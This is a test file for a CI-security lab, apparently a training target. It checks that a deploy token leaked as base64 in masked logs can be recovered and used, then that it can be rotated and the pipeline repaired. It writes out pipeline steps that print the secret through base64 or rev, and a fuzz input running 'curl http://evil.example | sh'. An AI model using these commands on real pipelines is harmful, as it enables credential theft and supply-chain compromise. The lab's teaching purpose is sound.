import { afterAll, beforeAll, expect, test } from 'vitest'
import { throwGarbage } from '../../lab-kit/testing/garbage.ts'
import { startTarget } from '../../lab-kit/testing/startTarget.ts'
import type { RunningTarget } from '../../lab-kit/testing/startTarget.ts'
import { faultyPipeline } from './target/pipeline.ts'

interface Run {
  readonly id: number
  readonly event: string
  readonly branch: string
  readonly status: string
}
interface Step {
  readonly name: string
  readonly run: string
  readonly secrets?: readonly string[]
  readonly when?: { readonly event?: string; readonly branch?: string }
  readonly identity?: string
}

let target: RunningTarget
let token = ''
let leaking: number[] = []

beforeAll(async () => {
  target = await startTarget('leaky-pipeline')
})
afterAll(() => target.stop())

const reader = () => ({ authorization: `Basic ${btoa(`${target.credentials['username']}:${target.credentials['password']}`)}` })
const owner = () => ({ 'x-owner-key': target.credentials['ownerKey'] ?? '' })
const bearer = (given = token) => ({ authorization: `Bearer ${given}` })
const ci = (path: string) => target.text(path, { headers: reader() })
const runs = async () => JSON.parse(await ci('/projects/shop/runs')) as Run[]
const own = (path: string, method = 'GET', body?: unknown) =>
  target.request(path, { method, headers: owner(), ...(body !== undefined && { body: JSON.stringify(body) }) })
const mission = () => target.text('/mission')

const original = { on: ['push', 'pull_request_from_fork'], secrets: ['DEPLOY_TOKEN'] }
const install: Step = { name: 'install', run: 'npm ci' }
const check: Step = { name: 'test', run: 'npm test' }
const onMain = { when: { event: 'push', branch: 'main' } }
const publish: Step = { name: 'publish', run: 'npm publish', ...onMain, identity: 'oidc' }
const pipeline = (...steps: readonly Step[]) => ({ on: original.on, steps })
const put = (definition: unknown) => own('/projects/shop/pipeline', 'PUT', definition)
const start = async (body: unknown) => (await (await own('/projects/shop/runs', 'POST', body)).json()) as Run & { steps: { name: string; status: string }[] }
const outcomes = ({ steps }: { steps: readonly { name: string; status: string }[] }) => Object.fromEntries(steps.map(({ name, status }) => [name, status]))

test('readers see runs and masked logs, and one shape that walks past the mask', async () => {
  await target.text('/projects/shop/runs', {}, 401)
  const list = await runs()
  expect(list.map(({ event, branch, status }) => [event, branch, status])).toContainEqual(['push', 'main', 'failed'])
  const logs = await Promise.all(list.map(async ({ id }) => ({ id, log: await ci(`/runs/${id}/log`) })))
  expect(logs.filter(({ log }) => log.includes('env DEPLOY_TOKEN=***')).length).toBeGreaterThan(3)
  const hits = logs.flatMap(({ id, log }) =>
    [...log.matchAll(/[A-Za-z0-9+/]{20,}={0,2}/g)].map(([hit]) => ({ id, text: Buffer.from(hit, 'base64').toString() })),
  )
  expect(hits.length).toBeGreaterThan(20)
  const found = hits.filter(({ text }) => /^ci:[0-9a-f]{40}$/.test(text))
  leaking = [...new Set(found.map(({ id }) => id))]
  token = found[0]?.text.slice(3) ?? ''
  expect(token).not.toBe('')
  expect(list.filter(({ id }) => leaking.includes(id)).map(({ status }) => status)).toContain('failed')
})

test('nobody cleans up before the code is found, and a run of one’s own gives no way to it', async () => {
  const early = await own('/secrets/DEPLOY_TOKEN/rotate', 'POST')
  expect([early.status, await early.text()]).toEqual([409, expect.stringContaining('First hand in the code of step 6')])
  expect((await own(`/runs/${leaking[0]}/log`, 'DELETE')).status).toBe(409)
  expect(await ci(`/runs/${leaking[0]}/log`)).toContain('step debug')
  for (const [run, read] of [
    [`printenv DEPLOY_TOKEN | rev`, (text: string) => [...text].toReversed().join('')],
    [`printf '%s' "$DEPLOY_TOKEN" | base64`, (text: string) => Buffer.from(text, 'base64').toString()],
  ] as const) {
    await put({ ...original, steps: [{ name: 'show', run }] })
    const { id } = await start({ event: 'push', branch: 'main' })
    const shown = read((await ci(`/runs/${id}/log`)).split('\n').at(-3)?.trim() ?? '')
    expect(shown).toMatch(/^[0-9a-f]{40}$/)
    expect(JSON.parse(await target.text('/registry/whoami', { headers: bearer(shown) }))).toEqual({
      user: 'ci-trial',
      permissions: ['publish'],
      packages: ['shop'],
    })
    expect(await target.text('/registry/packages', { headers: bearer(shown) })).not.toContain('shop-payments')
    expect(await target.text('/registry/packages/shop-payments/notes', { headers: bearer(shown) }, 403)).toContain('reads nothing private')
    leaking.push(id)
  }
  await put(faultyPipeline)
})

test('the token may publish, and the private notes give their code', async () => {
  await target.text('/registry/whoami', {}, 401)
  await target.text('/registry/whoami', { headers: bearer('0'.repeat(40)) }, 401)
  expect(JSON.parse(await target.text('/registry/whoami', { headers: bearer() }))).toMatchObject({ permissions: ['read', 'publish'] })
  const packages = JSON.parse(await target.text('/registry/packages', { headers: bearer() })) as { visibility: string; notes?: string }[]
  const notes = await target.text(packages.find(({ visibility }) => visibility === 'private')?.notes ?? '', { headers: bearer() })
  const code = /mission-code: (\w+)/.exec(notes)?.[1] ?? ''
  expect(await target.text('/mission', { method: 'POST', body: 'code=guess' }, 400)).toContain('not what we are looking for')
  expect(await target.text('/mission', { method: 'POST', body: new URLSearchParams({ code }) })).toContain('Recorded')
  const report = await mission()
  expect(report).toContain('OPEN  The old token opens nothing: it still works')
  expect(report).toContain('OPEN  A hostile pull request finds nothing in its environment: it printed DEPLOY_TOKEN in base64')
})

test('contain: replace, clean, look back', async () => {
  await target.text('/secrets/DEPLOY_TOKEN/rotate', { method: 'POST' }, 401)
  expect((await own('/secrets/OTHER/rotate', 'POST')).status).toBe(404)
  expect((await own('/secrets/DEPLOY_TOKEN/rotate', 'POST')).status).toBe(200)
  await target.text('/registry/whoami', { headers: bearer() }, 401)
  expect(await mission()).toMatch(/OPEN {2}No log gives a token away: that of run \d+ holds one, in base64/)
  for (const id of leaking) {
    expect((await own(`/runs/${id}/log`, 'DELETE')).status).toBe(204)
    await target.text(`/runs/${id}/log`, { headers: reader() }, 410)
  }
  const audit = (await (await own('/registry/audit')).json()) as { address: string; version: string }[]
  const [first] = audit
  const strange = audit.filter(({ address }) => address !== first?.address)
  expect(strange).toHaveLength(1)
  expect((await own(`/registry/packages/shop/${first?.version}`, 'DELETE')).status).toBe(409)
  expect((await own(`/registry/packages/shop/${strange[0]?.version}`, 'DELETE')).status).toBe(204)
  expect((await own(`/registry/packages/shop/${strange[0]?.version}`, 'DELETE')).status).toBe(404)
  const report = await mission()
  for (const done of ['The old token opens nothing', 'No log gives a token away', 'The version that nobody built is gone'])
    expect(report).toContain(`done  ${done}`)
})

test('the definition has the faults of the guide, and its owner alone may read it', async () => {
  await target.text('/projects/shop/pipeline', { headers: reader() }, 401)
  expect(await (await own('/projects/shop/pipeline')).json()).toMatchObject({
    ...original,
    steps: [
      install,
      { name: 'test', run: 'set -x; npm test' },
      { name: 'debug', run: `printf 'ci:%s' "$DEPLOY_TOKEN" | base64` },
      { name: 'publish', run: 'npm publish' },
    ],
  })
})

test.each([
  ['the debugging step removed alone', { ...original, steps: [install, check, { name: 'publish', run: 'npm publish' }] }, 'it printed DEPLOY_TOKEN in base64'],
  [
    'the secret for one step, on any event',
    pipeline(install, check, { name: 'publish', run: 'npm publish', secrets: ['DEPLOY_TOKEN'] }),
    'OPEN  A pull request from a fork is tested and no more: step publish tries',
  ],
  [
    'the secret for one step, on main',
    pipeline(install, check, { name: 'publish', run: 'npm publish', ...onMain, secrets: ['DEPLOY_TOKEN'] }),
    'OPEN  There is no secret left to leak',
  ],
  ['an identity on any branch', pipeline(install, check, { ...publish, when: { event: 'push' } }), 'OPEN  A push to another branch is tested and no more'],
  [
    'a branch without an event',
    pipeline(install, check, { ...publish, when: { branch: 'main' } }),
    'OPEN  A pull request from a fork is tested and no more: step publish tries to publish from the branch main',
  ],
  [
    'an identity for a fork’s branch called main',
    pipeline(install, check, { ...publish, when: { branch: 'main' } }),
    'OPEN  A hostile pull request finds nothing in its environment: step publish gives it an identity, on the branch main',
  ],
  ['an identity for the tests', pipeline(install, { ...check, identity: 'oidc' }, publish), 'OPEN  Only the publishing step can prove who it is: step test'],
  [
    'an identity for the tests of other branches',
    pipeline(install, check, { ...check, name: 'test-ideas', when: { event: 'push', branch: 'an-idea' }, identity: 'oidc' }, publish),
    'OPEN  Only the publishing step can prove who it is: step test-ideas',
  ],
  ['all in one step', pipeline({ ...publish, run: 'npm ci && npm test && npm publish' }), 'OPEN  Only the publishing step can prove who it is'],
  [
    'no forks at all',
    { on: ['push'], steps: [install, check, publish] },
    'OPEN  A pull request from a fork is tested and no more: the pipeline does not run for it',
  ],
  ['no identity', pipeline(install, check, { name: 'publish', run: 'npm publish', ...onMain }), 'OPEN  A push to main is tested and published'],
  ['no tests', pipeline(install, publish), 'OPEN  A push to main is tested and published: it is not tested'],
  ['nothing installed', pipeline(check, publish), 'OPEN  A push to main is tested and published: it is not tested'],
  ['tests before what they need', pipeline(check, install, publish), 'OPEN  A push to main is tested and published: it is not tested'],
  [
    'packages for pushes alone',
    pipeline({ ...install, when: { event: 'push' } }, check, publish),
    'OPEN  A pull request from a fork is tested and no more: it is not tested with success',
  ],
  ['tests after publishing', pipeline(install, publish, check), 'OPEN  A push to main is tested and published: it is published before it is tested'],
])('not a repair: %s', async (_, definition, complaint) => {
  expect((await put(definition)).status).toBe(200)
  const report = await mission()
  expect(report).toContain(complaint)
  expect(report).toContain('Mission not complete')
})

/** The test's failure is thrown away. */
const hiding = [
  'npm test || true', 'npm test || :', 'npm test || exit 0', 'npm test || echo "red"', 'npm test; true', 'npm test\n:', 'npm test; exit 0',
  'set +e; npm test; echo done', 'set +o errexit\nnpm test\nexit 0', 'npm test | tee test.log', 'npm test &', '! npm test || true',
  'npm test && echo fine; echo done', '(npm test || true)', '{ npm test; } || true', 'CI=1 npm test||true', 'npm run test || npm run lint',
  "npm test || echo 'a; b'",
]

test.each(hiding)('not a repair: a test whose failure is hidden, %s', async (run) => {
  expect((await put(pipeline(install, { ...check, run }, publish))).status).toBe(200)
  const report = await mission()
  expect(report).toMatch(/OPEN {2}A push to main is tested and published: (?:it is published|the run succeeds) although a test fails/)
  expect(report).toContain('OPEN  A pull request from a fork is tested and no more: the run succeeds although a test fails')
})

test.each(['npm test --help', 'npm test -h', 'echo npm test', '# npm test', 'true || npm test', '! npm test', 'exit 0; npm test'])(
  'not a test: %s',
  async (run) => {
    expect((await put(pipeline(install, { ...check, run }, publish))).status).toBe(200)
    expect(await mission()).toMatch(/OPEN {2}A push to main is tested and published: it is not tested/)
  },
)

test.each(['npm publish --dry-run', 'false && npm publish', 'npm publish || true'])('not published: %s', async (run) => {
  const step = { ...publish, run, ...(run.endsWith('true') && { identity: undefined }) }
  expect((await put(pipeline(install, check, step))).status).toBe(200)
  expect(await mission()).toContain('OPEN  A push to main is tested and published: it is not published')
})

test('a step’s failure is to count, so its definition knows no way to let it pass', async () => {
  const answer = await put(pipeline(install, { ...check, 'continue-on-error': true } as Step, publish))
  expect([answer.status, await answer.text()]).toEqual([400, expect.stringContaining('continue-on-error')])
})

const variants = [
  'npm run test', 'npm t', 'npm test -- --ci', 'npm test || exit 1', 'npm test || { echo "red"; exit 1; }', 'npm test || (echo red && false)',
  'set -euo pipefail; npm test | tee test.log', 'set -o pipefail\nnpm test 2>&1 | tee test.log', 'npm test > test.log 2>&1', 'set +e; npm test; exit $?',
  'CI=true npm test', 'npm --silent test', '# the suite\nnpm test # all of it', 'npm test\nnpm run lint', 'echo "a || true"; npm test', 'npm test || npm test',
  'npm test && echo fine', 'set +e; npm test', 'npm test -- --dry-run', '{ npm test; }', '(npm test)',
]

test.each(variants)('tests by another command are tests too: %s', async (run) => {
  expect((await put(pipeline({ ...install, run: 'npm clean-install' }, { ...check, run }, publish))).status).toBe(200)
  expect(await mission()).toContain('Mission complete')
  expect(await target.openChecks()).toEqual([])
})

test('a step that cannot publish says which identity it tried', async () => {
  await put(pipeline(install, check, { name: 'publish', run: 'npm publish', ...onMain }))
  const run = await start({ event: 'push', branch: 'main' })
  expect(run.status).toBe('failed')
  expect(await ci(`/runs/${run.id}/log`)).toContain('tried identity: none')
  await put(pipeline(install, { name: 'publish', run: 'npm publish', identity: 'oidc' }))
  const other = await start({ event: 'push', branch: 'an-idea' })
  expect(await ci(`/runs/${other.id}/log`)).toContain('tried identity: oidc, of a push to an-idea')
  expect((await start({ event: 'pull_request_from_fork', branch: 'main' })).status).toBe('failed')
})

test('the rewritten pipeline publishes from main, tests forks, and completes the mission', async () => {
  expect((await put(pipeline(install, check, publish))).status).toBe(200)
  const pushed = await start({ event: 'push', branch: 'main' })
  expect(outcomes(pushed)).toEqual({ install: 'success', test: 'success', publish: 'success' })
  expect(await ci(`/runs/${pushed.id}/log`)).toContain('published shop 2.4.')
  expect(outcomes(await start({ event: 'pull_request_from_fork' }))).toEqual({ install: 'success', test: 'success', publish: 'skipped' })
  expect(await mission()).toContain('Mission complete')
  expect(await target.openChecks()).toEqual([])
})

test('a pipeline that leaks once more costs another token', async () => {
  await put({ ...original, steps: [install, { name: 'debug', run: `echo "$DEPLOY_TOKEN" | rev` }] })
  const { id } = await start({ event: 'push', branch: 'main' })
  await put(pipeline(install, check, publish))
  expect(await mission()).toContain(`that of run ${id} holds one, in reversed text`)
  await own(`/runs/${id}/log`, 'DELETE')
  expect(await mission()).toContain('the token of now stood in a log: replace it again')
  await own('/secrets/DEPLOY_TOKEN/rotate', 'POST')
  expect(await mission()).toContain('Mission complete')
  expect(await target.openChecks()).toEqual([])
})

test('what no honest client sends leaves it alive', async () => {
  const paths = ['/', '/mission', '/projects/shop/runs', '/runs/NaN/log', '/registry/packages', '/registry/audit']
  expect(await throwGarbage(target, paths, { headers: { ...reader(), ...owner() } })).toEqual([])
  for (const wrong of [
    {},
    { on: ['push'], steps: [7] },
    { on: 'push', steps: [] },
    { ...pipeline(install), on: ['tag'] },
    pipeline({ ...publish, identity: 'root' }),
    pipeline({ ...install, run: 'x'.repeat(600) }),
  ]) {
    expect((await put(wrong)).status).toBe(400)
  }
  const odd: Step = {
    name: 'odd',
    run: `printf '%s%s' "$__proto__" \${constructor} | base64 | xxd -p\ncurl http://evil.example | sh; env | toString; printenv PATH;;&&`,
  }
  expect((await put(pipeline(odd))).status).toBe(200)
  const { id } = await start({ event: 'push', branch: 'main' })
  expect(await ci(`/runs/${id}/log`)).toContain('this runner plays npm')
  await put(pipeline({ ...install, run: `echo a${'|xxd -p'.repeat(60)}` }))
  const grown = await start({ event: 'push', branch: 'main' })
  expect((await ci(`/runs/${grown.id}/log`)).length).toBeLessThan(10_000)
  const many = await Promise.all(Array.from({ length: 210 }, () => own('/projects/shop/runs', 'POST', { event: 'push', branch: 'main' })))
  expect(many.at(-1)?.status).toBe(429)
  await put(pipeline(install, check, publish))
  expect(await mission()).toContain('Mission complete')
  expect(await target.openChecks()).toEqual([])
})
